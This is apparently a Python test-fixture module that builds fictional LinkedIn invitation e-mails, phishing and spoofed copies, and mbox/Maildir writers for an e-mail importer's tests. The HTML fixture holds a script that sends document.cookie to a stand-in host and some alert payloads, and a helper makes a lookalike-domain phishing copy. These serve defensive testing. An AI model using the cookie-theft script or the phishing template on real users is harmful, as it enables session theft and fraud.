"""Hand-written LinkedIn invitation e-mails (fictional people) in the layouts LinkedIn has used,
plus other mail, phishing copies and broken messages, for the e-mail importer's tests."""

from __future__ import annotations

import mailbox
from email.message import EmailMessage
from email.utils import format_datetime
from datetime import datetime, timedelta, timezone
from pathlib import Path

UTC = timezone.utc

MODERN_TEXT = """Aroha Ngata
Head of Talent at K\u014dwhai Recruitment | Tech & Digital
Wellington, New Zealand
Sam Patel and 11 other mutual connections

\u201cHi Kiri, I saw your talk at the Wellington IT leaders breakfast and would value connecting.\u201d

Accept: https://www.linkedin.com/comm/mynetwork/discovery-see-all?usecase=PEOPLE_FOLLOWS&midToken=AQHx1\
&trk=eml-email_m2m_invite_single_01

View profile: https://www.linkedin.com/comm/in/aroha-ngata-4b1a2c?midToken=AQHx1&midSig=0aB\
&trk=eml-email_m2m_invite_single_01-hero-0-profile~text&trkEmail=eml-email_m2m_invite_single_01-null-0-null

----------------------------------------

This email was intended for Kiri Halvorsen (IT Manager at Example Ltd)
Learn why we included this: https://www.linkedin.com/help/linkedin/answer/4788
You are receiving Invitation emails.
Unsubscribe: https://www.linkedin.com/comm/psettings/email-unsubscribe?lipi=x
\u00a9 2026 LinkedIn Corporation, 1000 West Maude Avenue, Sunnyvale, CA 94085.
"""

MODERN_HTML = """<!DOCTYPE html><html><head><title>LinkedIn</title>
<style>.hero{color:#000}</style><script>document.location='https://evil.example/'+document.cookie</script></head>
<body onload="alert('x')"><div style="display:none;max-height:0;overflow:hidden">Aroha Ngata wants to connect</div>
<table><tr><td><a href="https://www.linkedin.com/comm/in/kiri-halvorsen?midToken=AQHx1">Kiri Halvorsen</a></td></tr>
<tr><td><a href="https://www.linkedin.com/comm/in/aroha-ngata-4b1a2c?midToken=AQHx1&amp;trk=eml-hero-1-profile~name">
<h2>Aroha Ngata</h2></a></td></tr>
<tr><td><p>Head of Talent at K&#333;whai Recruitment | Tech &amp; Digital</p><p>Wellington, New Zealand</p></td></tr>
<tr><td><p><a href="https://www.linkedin.com/comm/in/sam-patel-77">Sam Patel</a> and 11 other mutual connections\
</p></td></tr>
<tr><td><p>&ldquo;Hi Kiri, I saw your talk at the Wellington IT leaders breakfast and would value connecting.&rdquo;\
</p></td></tr>
<tr><td><a href="https://www.linkedin.com/comm/mynetwork/invite-accept?invitationId=1">Accept</a>
<a href="https://www.linkedin.com/comm/in/aroha-ngata-4b1a2c?trk=eml-hero-profile">View profile</a></td></tr>
<tr><td><p>This email was intended for Kiri Halvorsen (IT Manager at Example Ltd)</p>
<p>&copy; 2026 LinkedIn Corporation</p></td></tr></table><script>alert('again')</script></body></html>"""

HTML_ONLY = """<html><body><script type="text/javascript">window.steal()</script>
<div hidden>preheader text</div><table>
<tr><td><a href="https://nz.linkedin.com/comm/in/liam-o-connor-x9?trk=eml&amp;midToken=Z">\
<span>Liam O\u2019Connor</span></a></td></tr>
<tr><td>Account Executive @ CloudCo &middot; FinOps</td></tr>
<tr><td>Auckland, New Zealand</td></tr>
<tr><td>4 mutual connections</td></tr>
<tr><td><a href="https://www.linkedin.com/comm/mynetwork/invite-accept">Accept</a></td></tr>
</table></body></html>"""

OLD_2016_TEXT = """Hi Kiri,
I'd like to join your LinkedIn network.

Tomasz Wi\u015bniewski
Principal Solutions Architect at Baltic Data Systems
Greater Wellington Area

Accept: https://www.linkedin.com/comm/people/invite-accept?mboxid=I61220&sharedKey=-aWV&invitationId=61221

View Tomasz Wi\u015bniewski's profile: https://www.linkedin.com/comm/profile/view?id=AAsAAAAIW1gB&authType=name\
&trk=eml-M2M_Invitation-hero-1-text~profile

.....................................

You are receiving Invitation emails.
"""

OLD_2012_TEXT = """LinkedIn
------------

Priya Raman requested to add you as a connection on LinkedIn:
------------------------------------------

Kiri,

We worked together on the Harbour Board ERP migration in 2011; I'd like to stay in touch.

- Priya

Accept invitation from Priya Raman
http://www.linkedin.com/e/-x1y2z3-h5k6/blk/I3334_3/pmpxnSRJrSdvj4R5fnhv9ClRsDgZp6lQs6lzoQ5AomZIpn8_/EML_comm_afe/

View invitation from Priya Raman
http://www.linkedin.com/e/-x1y2z3-h5k6/blk/I3334_3/39vdPgPcj0Ud3oQ/svi/

--
DID YOU KNOW you can be the first to know when a trusted member of your network changes jobs?
"""

REMINDER_TEXT = """Aroha Ngata sent you an invitation 6 days ago

Aroha Ngata
Head of Talent at K\u014dwhai Recruitment | Tech & Digital

Accept
View profile: https://www.linkedin.com/comm/in/aroha-ngata-4b1a2c?trk=eml-reminder
"""


def make_message(subject: str, sender: str, text: str | None = None, html: str | None = None,
                 when: datetime | None = None, headers: dict[str, str] | None = None,
                 charset: str = "utf-8") -> EmailMessage:
    """Build one e-mail with the given parts (plain text first, like LinkedIn's)."""
    message = EmailMessage()
    message["From"] = sender
    message["To"] = "Kiri Halvorsen <kiri@example.org>"
    message["Subject"] = subject
    message["Date"] = format_datetime(when or datetime(2026, 2, 3, 8, 14, 5, tzinfo=UTC))
    message["Message-ID"] = f"<{abs(hash((subject, sender, text)))}@example.test>"
    for name, value in (headers or {}).items():
        message[name] = value
    if text is not None:
        message.set_content(text, charset=charset, cte="quoted-printable")
    if html is not None:
        if text is None:
            message.set_content(html, subtype="html", cte="quoted-printable")
        else:
            message.add_alternative(html, subtype="html", cte="quoted-printable")
    return message


def modern_invitation(when: datetime | None = None) -> EmailMessage:
    return make_message("Aroha Ngata wants to connect", "Aroha Ngata via LinkedIn <invitations@linkedin.com>",
                        MODERN_TEXT, MODERN_HTML, when)


def html_only_invitation() -> EmailMessage:
    return make_message("Liam O\u2019Connor wants to connect", "LinkedIn <invitations@linkedin.com>",
                        html=HTML_ONLY, when=datetime(2026, 2, 4, 1, 0, tzinfo=timezone(timedelta(hours=13))))


def old_2016_invitation() -> EmailMessage:
    return make_message("Kiri, please add me to your LinkedIn network",
                        "Tomasz Wi\u015bniewski <invitations@linkedin.com>", OLD_2016_TEXT,
                        when=datetime(2016, 4, 4, 22, 13, 31, tzinfo=UTC))


def old_2012_invitation() -> EmailMessage:
    return make_message("Invitation to connect on LinkedIn", "Priya Raman via LinkedIn <member@linkedin.com>",
                        OLD_2012_TEXT, when=datetime(2012, 9, 10, 3, 0, tzinfo=UTC))


def reminder() -> EmailMessage:
    return make_message("Reminder: Aroha Ngata is waiting for your response",
                        "LinkedIn <messages-noreply@linkedin.com>", REMINDER_TEXT,
                        when=datetime(2026, 2, 9, 9, 30, tzinfo=UTC))


def phishing(domain: str = "linkedln.com") -> EmailMessage:
    text = MODERN_TEXT.replace("https://www.linkedin.com/comm/in/", f"https://{domain}/in/")
    return make_message("Aroha Ngata wants to connect", f"LinkedIn <invitations@{domain}>", text)


def spoofed() -> EmailMessage:
    return make_message("Aroha Ngata wants to connect", "LinkedIn <invitations@linkedin.com>", MODERN_TEXT,
                        headers={"Authentication-Results": "mx.example.org; spf=fail smtp.mailfrom=linkedin.com; "
                                                          "dkim=none; dmarc=fail (p=REJECT) header.from=linkedin.com"})


def newsletter() -> EmailMessage:
    return make_message("Your weekly digest", "News <news@example.org>", "Ten things to read this week.\n")


def job_alert() -> EmailMessage:
    return make_message("10 new jobs for IT Manager", "LinkedIn Job Alerts <jobalerts-noreply@linkedin.com>",
                        "IT Manager at Contoso\nWellington\n")


def invitation_number(number: int) -> EmailMessage:
    """A distinct current-layout invitation, for volume tests."""
    text = MODERN_TEXT.replace("Aroha Ngata", f"Sender {number} Example").replace(
        "aroha-ngata-4b1a2c", f"sender-{number}-example")
    html = MODERN_HTML.replace("Aroha Ngata", f"Sender {number} Example").replace(
        "aroha-ngata-4b1a2c", f"sender-{number}-example")
    return make_message(f"Sender {number} Example wants to connect", "LinkedIn <invitations@linkedin.com>",
                        text, html, datetime(2026, 1, 1, tzinfo=UTC) + timedelta(minutes=number))


def write_mbox(path: Path, messages: list[EmailMessage]) -> Path:
    """Write messages to an mbox file with the stdlib (">From " escaping included)."""
    box = mailbox.mbox(str(path), create=True)
    box.lock()
    try:
        for message in messages:
            box.add(message)
        box.flush()
    finally:
        box.unlock()
        box.close()
    return path


def write_maildir(path: Path, messages: list[EmailMessage]) -> Path:
    box = mailbox.Maildir(str(path), create=True)
    for message in messages:
        box.add(message)
    return path


def write_eml(path: Path, message: EmailMessage) -> Path:
    path.write_bytes(message.as_bytes())
    return path
